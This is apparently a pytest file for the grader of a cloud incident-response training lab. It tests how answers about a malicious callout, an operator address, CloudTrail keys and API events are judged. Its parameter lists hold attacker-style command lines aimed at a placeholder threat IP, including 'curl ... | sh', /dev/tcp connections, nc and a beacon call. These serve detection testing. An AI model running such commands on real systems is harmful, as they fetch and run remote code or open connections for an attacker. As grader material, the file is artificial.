"""How the first scenario reads its evidence, in cases that its samples don't cover."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from labkit.errors import GraderError
from labkit.evidence import trail
from labkit.grading import checks, samples
from labkit.grading.judge import judge
from labkit.model import (
    Answer,
    ApiEvent,
    Evidence,
    EvidenceBundle,
    FlowRecord,
    Outcome,
    Run,
    Source,
    SourceState,
)

FOLDER = Path(__file__).resolve().parents[2] / "checks" / "malicious_callout"
FILES = {file.name: file for file in checks.load(FOLDER)}
incident: Any = checks.load_module(FOLDER, "incident")

THREAT, OPERATOR, SERVER = "198.51.100.77", "192.0.2.45", "10.20.0.11"


@pytest.fixture
def evidence() -> Evidence:
    return samples.evidence(FOLDER / "samples" / "one_run")


def outcome(task: str, evidence: Evidence, *values: str) -> Outcome:
    found = judge(FILES[task], EvidenceBundle(evidence, (Answer(task, values),)))
    assert found is not None
    return found.outcome


def call(evidence: Evidence) -> FlowRecord:
    return next(record for record in evidence.flows if record.destination == THREAT)


def login(evidence: Evidence) -> FlowRecord:
    return next(record for record in evidence.flows if record.destination == OPERATOR)


def with_flows(evidence: Evidence, *flows: FlowRecord) -> Evidence:
    return replace(evidence, flows=(*flows, *evidence.flows))


@pytest.mark.parametrize(
    "command",
    [
        f"curl {THREAT}",
        f"curl -s http://{THREAT}:8080/x",
        f"wget -q -O- 'http://user@{THREAT}/x'",
        f"nc -w1 {THREAT} 443 </dev/null",
        f"sudo -u nobody ping -c1 {THREAT}",
        f"ssh root@{THREAT}",
        f"A=1 nohup python3 -c 'import urllib.request as u; u.urlopen(\"http://{THREAT}\")' &",
        f"bash -c 'exec 3<>/dev/tcp/{THREAT}/80'",
        f"echo hello > /dev/tcp/{THREAT}/80",
        f"echo start; curl {THREAT}",
        f"echo {THREAT} && curl --resolve evil.example:80:{THREAT} http://evil.example/",
        f"while sleep 1; do curl {THREAT}; done",
        f'curl "http://{THREAT}/unfinished',
    ],
)
def test_any_program_that_is_given_a_listed_address_calls_out(
    evidence: Evidence, command: str
) -> None:
    record = replace(evidence.commands[-1], command=command)

    assert incident.address_called(record, evidence.threat_addresses) == THREAT
    assert outcome("command", replace(evidence, commands=(record,)), command) is Outcome.PASSED


@pytest.mark.parametrize(
    "command",
    [
        f"echo {THREAT}",
        f"sudo grep {THREAT} /var/log/messages",
        f"cat /etc/hosts # {THREAT.replace('77', '7')}",
        f"printf '%s\\n' {THREAT} > list.txt",
        f"curl http://{THREAT}0/",
        f"curl http://1{THREAT}/",
        f"curl {THREAT}.9",
        "curl http://192.0.2.1/",
        "",
    ],
)
def test_naming_a_listed_address_is_not_calling_it(evidence: Evidence, command: str) -> None:
    record = replace(evidence.commands[-1], command=command)

    assert incident.address_called(record, evidence.threat_addresses) is None


@pytest.mark.parametrize("status", [126, 127])
def test_a_program_that_could_not_be_run_called_nobody(evidence: Evidence, status: int) -> None:
    record = replace(evidence.commands[-1], exit_status=status)

    assert incident.address_called(record, evidence.threat_addresses) is None
    assert incident.address_called(replace(record, exit_status=28), evidence.threat_addresses)


def test_without_a_call_in_the_log_the_grader_cannot_judge(evidence: Evidence) -> None:
    silent = replace(evidence, commands=evidence.commands[:-1])
    no_flows = replace(evidence, flows=tuple(f for f in evidence.flows if f.destination != THREAT))

    assert outcome("command", silent, "id") is Outcome.ERROR
    assert outcome("callout_address", no_flows, THREAT) is Outcome.ERROR
    assert outcome("operator_address", no_flows, OPERATOR) is Outcome.ERROR
    with pytest.raises(GraderError):
        incident.callouts(silent)


def test_a_reply_to_someone_on_the_list_is_no_call(evidence: Evidence) -> None:
    other = "203.0.113.200"
    reply = call(evidence)._replace(destination=other, source_port=22, destination_port=51000)

    assert outcome("callout_address", with_flows(evidence, reply), other) is Outcome.WRONG


def test_the_operators_conversation_counts_in_either_direction(evidence: Evidence) -> None:
    for direction in ("source", "destination"):
        kept = tuple(f for f in evidence.flows if getattr(f, direction) != OPERATOR)

        assert (
            outcome("operator_address", replace(evidence, flows=kept), OPERATOR) is Outcome.PASSED
        )


def test_a_login_in_an_earlier_window_counts_if_none_is_in_the_calls(evidence: Evidence) -> None:
    minute = timedelta(minutes=1)
    moved = tuple(
        f._replace(started_at=f.started_at - minute, ended_at=f.ended_at - minute)
        if OPERATOR in (f.source, f.destination)
        else f
        for f in evidence.flows
        if "192.0.2.210" not in (f.source, f.destination)
    )
    later = login(evidence)._replace(
        destination="192.0.2.99", bytes=10**6, started_at=call(evidence).ended_at + minute
    )
    before_all = replace(
        evidence,
        flows=(
            later,
            *(f for f in moved if f.source != "192.0.2.10" and f.destination != "192.0.2.10"),
        ),
    )

    assert outcome("operator_address", before_all, OPERATOR) is Outcome.PASSED
    assert outcome("operator_address", before_all, "192.0.2.99") is Outcome.WRONG


def test_many_small_attempts_are_not_one_long_login(evidence: Evidence) -> None:
    """Someone who guesses passwords opens a connection for each guess."""
    guesses = [
        login(evidence)._replace(destination="192.0.2.66", destination_port=40000 + n, bytes=3000)
        for n in range(50)
    ]
    guessed = with_flows(evidence, *guesses)

    assert outcome("operator_address", guessed, OPERATOR) is Outcome.PASSED
    assert outcome("operator_address", guessed, "192.0.2.66") is Outcome.WRONG


def test_what_was_rejected_is_no_login_however_much_it_was(evidence: Evidence) -> None:
    flood = login(evidence)._replace(
        source="192.0.2.66", destination=SERVER, source_port=4000, destination_port=22,
        bytes=10**7, action="REJECT",
    )  # fmt: skip

    assert outcome("operator_address", with_flows(evidence, flood), OPERATOR) is Outcome.PASSED


def test_a_login_to_another_server_is_not_the_operators(evidence: Evidence) -> None:
    other = login(evidence)._replace(
        interface_id=evidence.instances[1].interface_id, source="10.20.0.12",
        destination="192.0.2.66", bytes=10**7,
    )  # fmt: skip

    assert outcome("operator_address", with_flows(evidence, other), OPERATOR) is Outcome.PASSED


def test_a_run_by_run_command_has_no_operator_and_others_still_have() -> None:
    two = samples.evidence(FOLDER / "samples" / "two_runs")
    first, second = two.runs
    mixed = replace(two, runs=(replace(first, via="ssm"), second))

    assert outcome("operator_address", mixed, "192.0.2.46") is Outcome.PASSED
    assert outcome("operator_address", mixed, "192.0.2.45") is Outcome.WRONG
    only: tuple[Run, ...] = tuple(replace(run, via="ssm") for run in two.runs)
    assert judge(FILES["operator_address"], EvidenceBundle(replace(two, runs=only))) is None


def test_ipv6_callers_and_operators_are_compared_in_one_notation(evidence: Evidence) -> None:
    operator = "2001:db8::5"
    flows = tuple(
        f._replace(
            **{end: operator for end in ("source", "destination") if getattr(f, end) == OPERATOR}
        )
        for f in evidence.flows
    )

    found = outcome("operator_address", replace(evidence, flows=flows), "[2001:DB8:0::5]:50387")

    assert found is Outcome.PASSED


def test_the_operator_is_not_asked_for_where_run_command_did_it() -> None:
    bundle = EvidenceBundle(samples.evidence(FOLDER / "samples" / "by_run_command"))

    assert judge(FILES["operator_address"], bundle) is None


@pytest.mark.parametrize(
    ("error_code", "later", "said"),
    [
        ("UnauthorizedOperation", timedelta(), "in the event history, but AWS refused it"),
        (None, timedelta(hours=1), "in the event history, but not as part of the incident"),
    ],
)
def test_calls_that_the_history_lists_but_that_do_not_count_are_not_called_missing(
    evidence: Evidence, error_code: str | None, later: timedelta, said: str
) -> None:
    stop = next(event for event in evidence.history if event.name == "StopInstances")
    own = replace(
        stop,
        event_id="own",
        name="TerminateInstances",
        time=stop.time + later,
        error_code=error_code,
    )
    explored = replace(evidence, history=(own, *evidence.history))
    names = ("RunInstances", "StopInstances", "TerminateInstances")
    answers = (Answer("api_events", names),)
    found = judge(FILES["api_events"], EvidenceBundle(explored, answers))
    assert found is not None
    assert (found.outcome, said in found.message) == (Outcome.WRONG, True)
    without = judge(FILES["api_events"], EvidenceBundle(evidence, answers))
    assert without is not None
    assert "not in your server's event history" in without.message


@pytest.mark.parametrize(
    "command",
    [
        f"sudo iptables -A OUTPUT -d {THREAT} -j DROP",
        f"git commit -m 'block http://{THREAT}/'",
        f"zgrep {THREAT} /var/log/messages-1.gz",
        f"sudo -u root nft add rule inet filter out ip daddr {THREAT} drop",
        f"awk '/{THREAT}/' access.log",
        f"curl -H 'X-Forwarded-For: {THREAT}' http://192.0.2.1/",
        f"curl -so {THREAT}.txt http://192.0.2.1/",
        f"dig -x {THREAT}",
        f"bash -c 'echo {THREAT}'",
        f"ADDRESS={THREAT}; echo $ADDRESS",
        f"logger called {THREAT}",
    ],
)
def test_a_line_that_only_mentions_a_listed_address_is_no_call(
    evidence: Evidence, command: str
) -> None:
    record = replace(evidence.commands[-1], command=command)

    assert incident.address_called(record, evidence.threat_addresses) is None
    both = replace(evidence, commands=(*evidence.commands, record))
    assert outcome("command", both, command) is Outcome.WRONG


@pytest.mark.parametrize(
    "command",
    [
        f"ADDRESS={THREAT}; curl http://$ADDRESS/x",
        f"for a in {THREAT}; do wget -q $a; done",
        f"timeout 5 curl {THREAT}",
        f'echo "$(curl -s http://{THREAT}/)"',
        f"bash -c 'curl -s {THREAT} | sh'",
        f"./beacon {THREAT}",
        f"/usr/bin/python3.11 -c 'import urllib.request as u; u.urlopen(\"http://{THREAT}\")'",
        f"git clone http://{THREAT}/x",
        f"sudo -u nobody env A=1 nice -n 5 curl -so out http://{THREAT}/",
        f"dig @{THREAT} example.com",
    ],
)
def test_a_call_is_seen_behind_wrappers_and_variables(evidence: Evidence, command: str) -> None:
    record = replace(evidence.commands[-1], command=command)

    assert incident.address_called(record, evidence.threat_addresses) == THREAT


def test_a_listed_ipv6_address_is_known_in_any_notation(evidence: Evidence) -> None:
    listed = replace(evidence, threat_addresses=("2001:db8::7",))
    line = "curl -s http://[2001:DB8:0:0::7]:8080/x"
    record = replace(evidence.commands[-1], command=line)

    assert incident.address_called(record, listed.threat_addresses) == "2001:db8::7"
    longer = replace(record, command="curl http://[2001:db8::7:1]/")
    assert incident.address_called(longer, listed.threat_addresses) is None


def test_a_server_that_connects_elsewhere_by_ssh_is_not_its_own_operator(
    evidence: Evidence,
) -> None:
    outbound = login(evidence)._replace(
        source=SERVER, destination="192.0.2.66", source_port=50123, destination_port=22, bytes=10**8
    )
    answer = outbound._replace(
        source="192.0.2.66", destination=SERVER, source_port=22, destination_port=50123
    )
    both = with_flows(evidence, outbound, answer)

    assert outcome("operator_address", both, OPERATOR) is Outcome.PASSED
    assert outcome("operator_address", both, "192.0.2.66") is Outcome.WRONG
    assert outcome("operator_address", both, SERVER) is Outcome.WRONG


def accepted_key(evidence: Evidence) -> ApiEvent:
    return next(
        event
        for event in evidence.trail
        if event.name == "SendSSHPublicKey" and event.error_code is None
    )


def key_sent(evidence: Evidence, **parts: Any) -> Any:
    """The record of the key, with parts of it replaced."""
    sent = accepted_key(evidence)
    return trail.parse({**sent.record, "eventID": "another", **parts})


def test_a_key_for_another_server_of_the_lab_is_not_the_incidents(evidence: Evidence) -> None:
    caller, address = "staff-session", "192.0.2.99"
    identity = {
        "type": "AssumedRole",
        "arn": f"arn:aws:sts::210000000001:assumed-role/admin/{caller}",
    }
    other = key_sent(
        evidence,
        userIdentity=identity,
        sourceIPAddress=address,
        requestParameters={"instanceId": evidence.instances[1].instance_id},
    )
    noisy = replace(evidence, trail=(*evidence.trail, other))

    assert outcome("trail_query", noisy, caller, address) is Outcome.WRONG
    assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED


def test_an_earlier_session_of_staff_changes_nothing(evidence: Evidence) -> None:
    sent = accepted_key(evidence)
    identity = {
        "type": "AssumedRole",
        "arn": "arn:aws:sts::210000000001:assumed-role/admin/staff",
    }
    early = key_sent(
        evidence,
        userIdentity=identity,
        sourceIPAddress="192.0.2.99",
        eventTime=f"{sent.time - timedelta(seconds=20):%Y-%m-%dT%H:%M:%SZ}",
    )
    noisy = replace(evidence, trail=(early, *evidence.trail))

    assert outcome("trail_query", noisy, "staff", "192.0.2.99") is Outcome.WRONG
    assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED


def test_of_two_logins_in_one_window_the_sender_of_the_key_is_the_operator(
    evidence: Evidence,
) -> None:
    busier = login(evidence)._replace(destination="192.0.2.66", bytes=10**8)
    two = with_flows(evidence, busier)

    assert outcome("operator_address", two, OPERATOR) is Outcome.PASSED
    assert outcome("operator_address", two, "192.0.2.66") is Outcome.WRONG


def test_two_logins_are_not_judged_before_the_trail_has_arrived(evidence: Evidence) -> None:
    busier = login(evidence)._replace(destination="192.0.2.66", bytes=10**8)
    reports = tuple(
        replace(r, state=SourceState.LATE, runs=()) if r.source is Source.TRAIL else r
        for r in evidence.sources
    )
    late = replace(with_flows(evidence, busier), trail=(), sources=reports)

    assert outcome("operator_address", late, OPERATOR) is Outcome.PENDING
    assert outcome("operator_address", late, "192.0.2.66") is Outcome.PENDING


def test_an_own_call_that_was_refused_after_the_incident_is_told_apart(evidence: Evidence) -> None:
    stop = next(event for event in evidence.history if event.name == "StopInstances")
    own = replace(
        stop,
        event_id="own",
        name="TerminateInstances",
        time=stop.time + timedelta(hours=1),
        error_code="AccessDenied",
    )
    explored = replace(evidence, history=(own, *evidence.history))
    answers = (Answer("api_events", ("RunInstances", "StopInstances", "TerminateInstances")),)

    found = judge(FILES["api_events"], EvidenceBundle(explored, answers))

    assert found is not None
    assert "in the event history, but AWS refused it, after the incident" in found.message


def test_a_list_of_every_call_is_not_told_which_ones_are_wrong(evidence: Evidence) -> None:
    names = ("RunInstances", "StopInstances", "TerminateInstances", "RebootInstances")

    found = judge(FILES["api_events"], EvidenceBundle(evidence, (Answer("api_events", names),)))

    assert found is not None
    assert found.message == "2 of your 4 names: not in your server's event history."


def test_only_the_alert_of_the_incident_names_the_server(evidence: Evidence) -> None:
    """Sample findings, other types, other servers, and other times don't count."""
    alert = next(
        f for f in evidence.findings if f.type.endswith("MaliciousIPCaller.Custom") and not f.sample
    )
    (run,) = evidence.runs
    other = evidence.instances[1].instance_id
    day = timedelta(days=1)
    for wrong in (
        replace(alert, instance_id=other, sample=True),
        replace(alert, instance_id=other, type="Recon:EC2/PortProbeUnprotectedPort"),
        replace(
            alert,
            instance_id=other,
            first_seen=run.started_at - day,
            last_seen=run.started_at - day,
        ),
        replace(
            alert,
            instance_id=other,
            first_seen=run.finished_at + day,
            last_seen=run.finished_at + day,
        ),
    ):
        noisy = replace(evidence, findings=(wrong, alert))
        assert outcome("instance", noisy, other) is Outcome.WRONG
        assert outcome("instance", noisy, alert.instance_id or "") is Outcome.PASSED
        assert outcome("instance", replace(evidence, findings=(wrong,)), other) is Outcome.PENDING
    foreign = replace(alert, instance_id="i-00000000000000001")
    alone = replace(evidence, findings=(foreign,))
    assert outcome("instance", alone, "i-00000000000000001") is Outcome.PENDING


@pytest.mark.parametrize(
    "parts",
    [
        {"errorCode": "AccessDenied"},
        {"eventName": "DescribeInstances"},
        {"eventName": "SendCommand"},
        {"eventTime": "2026-03-01T09:14:30Z"},
        {"eventTime": "2026-03-03T09:14:30Z"},
        {"requestParameters": {"instanceId": "i-00000000000000001"}},
        {"requestParameters": None},
    ],
)
def test_only_a_key_for_the_server_at_that_time_is_the_way_in(
    evidence: Evidence, parts: dict[str, Any]
) -> None:
    identity = {"type": "AssumedRole", "arn": "arn:aws:sts::210000000001:assumed-role/x/someone"}
    other = key_sent(evidence, userIdentity=identity, sourceIPAddress="192.0.2.99", **parts)

    for order in ((other, *evidence.trail), (*evidence.trail, other)):
        noisy = replace(evidence, trail=order)
        assert outcome("trail_query", noisy, "someone", "192.0.2.99") is Outcome.WRONG
        assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED


def test_a_key_sent_after_the_call_is_not_the_way_in(evidence: Evidence) -> None:
    called_at = evidence.commands[-1].logged_at
    identity = {"type": "AssumedRole", "arn": "arn:aws:sts::210000000001:assumed-role/x/someone"}
    later = key_sent(
        evidence,
        userIdentity=identity,
        eventTime=f"{called_at + timedelta(seconds=5):%Y-%m-%dT%H:%M:%SZ}",
    )
    noisy = replace(evidence, trail=(*evidence.trail, later))

    assert outcome("trail_query", noisy, "someone", OPERATOR) is Outcome.WRONG
    assert outcome("trail_query", noisy, "nadia-release-417", OPERATOR) is Outcome.PASSED


def test_without_a_way_in_the_grader_cannot_judge(evidence: Evidence) -> None:
    bare = replace(evidence, trail=tuple(e for e in evidence.trail if e.name != "SendSSHPublicKey"))

    assert outcome("trail_query", bare, "nadia-release-417", OPERATOR) is Outcome.ERROR


@pytest.mark.parametrize(
    "parts",
    [
        {"error_code": "UnauthorizedOperation"},
        {"resources": ("i-00000000000000001",)},
        {"resources": ()},
    ],
)
def test_only_calls_that_changed_the_stopped_server_count(
    evidence: Evidence, parts: dict[str, Any]
) -> None:
    stop = next(event for event in evidence.history if event.name == "StopInstances")
    other = replace(stop, event_id="other", name="RebootInstances", **parts)
    noisy = replace(evidence, history=(*evidence.history, other))

    assert outcome("api_events", noisy, "RunInstances", "StopInstances") is Outcome.PASSED
    both = ("RunInstances", "StopInstances", "RebootInstances")
    assert outcome("api_events", noisy, *both) is Outcome.WRONG


def test_what_the_other_server_went_through_does_not_count(evidence: Evidence) -> None:
    stop = next(event for event in evidence.history if event.name == "StopInstances")
    other = replace(
        stop,
        event_id="other",
        name="RebootInstances",
        resources=(evidence.instances[1].instance_id,),
    )
    noisy = replace(evidence, history=(*evidence.history, other))

    both = ("RunInstances", "StopInstances", "RebootInstances")
    assert outcome("api_events", noisy, *both) is Outcome.WRONG


def test_a_change_before_the_stop_counts_and_may_be_left_out(evidence: Evidence) -> None:
    stop = next(event for event in evidence.history if event.name == "StopInstances")
    early = replace(stop, event_id="e", name="CreateTags", time=stop.time - timedelta(hours=1))
    same = replace(stop, event_id="s", name="ModifyInstanceAttribute")
    noisy = replace(evidence, history=(early, same, *evidence.history))

    for names in ((), ("CreateTags",), ("ModifyInstanceAttribute", "CreateTags")):
        found = outcome("api_events", noisy, "RunInstances", "StopInstances", *names)
        assert found is Outcome.PASSED


def test_without_a_stop_in_the_window_the_history_is_awaited(evidence: Evidence) -> None:
    names = ("RunInstances", "StopInstances")
    none = replace(
        evidence, history=tuple(e for e in evidence.history if e.name != "StopInstances")
    )
    refused = replace(
        evidence,
        history=tuple(
            replace(e, error_code="AccessDenied") if e.name == "StopInstances" else e
            for e in evidence.history
        ),
    )
    old = replace(
        evidence,
        history=tuple(
            replace(e, time=e.time - timedelta(days=1)) if e.name == "StopInstances" else e
            for e in evidence.history
        ),
    )
    for awaited in (none, refused, old):
        assert outcome("api_events", awaited, *names) is Outcome.PENDING


def test_the_bytes_of_one_connection_are_added_up(evidence: Evidence) -> None:
    """Without a trail, the connection with the most traffic counts: all its records together."""
    call_record = call(evidence)
    bare = replace(evidence, trail=())
    size = sum(
        f.bytes or 0
        for f in evidence.flows
        if OPERATOR in (f.source, f.destination) and 22 in (f.source_port, f.destination_port)
    )
    one = login(evidence)._replace(
        destination="192.0.2.66",
        destination_port=40001,
        started_at=call_record.started_at,
        ended_at=call_record.ended_at,
    )
    less = with_flows(bare, *[one._replace(bytes=size // 2 - 100)] * 2)
    more = with_flows(bare, *[one._replace(bytes=size // 2 + 100)] * 2)

    assert outcome("operator_address", less, OPERATOR) is Outcome.PASSED
    assert outcome("operator_address", more, "192.0.2.66") is Outcome.PASSED
    assert outcome("operator_address", more, OPERATOR) is Outcome.WRONG


def test_only_the_log_of_the_servers_own_interface_counts(evidence: Evidence) -> None:
    elsewhere = login(evidence)._replace(
        interface_id=evidence.instances[1].interface_id, destination="192.0.2.66", bytes=10**8
    )
    bare = replace(evidence, trail=(), flows=(elsewhere, *evidence.flows))

    assert outcome("operator_address", bare, OPERATOR) is Outcome.PASSED
    own = elsewhere._replace(interface_id=evidence.instances[0].interface_id)
    there = replace(evidence, trail=(), flows=(own, *evidence.flows))
    assert outcome("operator_address", there, "192.0.2.66") is Outcome.PASSED


def test_exactly_two_logins_wait_for_the_trail_and_one_does_not(evidence: Evidence) -> None:
    reports = tuple(
        replace(r, state=SourceState.LATE, runs=()) if r.source is Source.TRAIL else r
        for r in evidence.sources
    )
    late = replace(evidence, trail=(), sources=reports)
    others = tuple(
        f
        for f in evidence.flows
        if 22 not in (f.source_port, f.destination_port) or OPERATOR in (f.source, f.destination)
    )
    alone = replace(late, flows=others)
    second = login(evidence)._replace(destination="192.0.2.66")

    assert outcome("operator_address", alone, OPERATOR) is Outcome.PASSED
    both = replace(alone, flows=(second, *others))
    assert outcome("operator_address", both, OPERATOR) is Outcome.PENDING


def test_which_answers_differ_from_seat_to_seat() -> None:
    unique = {name for name, file in FILES.items() if getattr(file.content, "unique", False)}

    assert unique == {"instance", "command", "trail_query"}
